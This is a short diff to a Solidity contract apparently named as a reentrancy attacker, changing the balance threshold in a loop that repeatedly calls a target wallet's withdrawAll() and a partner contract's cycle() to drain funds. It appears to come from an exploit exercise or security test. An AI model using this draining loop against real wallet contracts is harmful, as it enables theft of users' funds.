@@ -108,7 +108,7 @@ contract UnsWalletReenterer {
         require(msg.sender == boss, "boss");
         wallet.deposit{value: msg.value}();
         uint256 stake = msg.value;
-        while (address(wallet).balance >= 2 * stake) {
+        while (address(wallet).balance >= 3 * stake) {
             wallet.withdrawAll();
             other.cycle();
         }
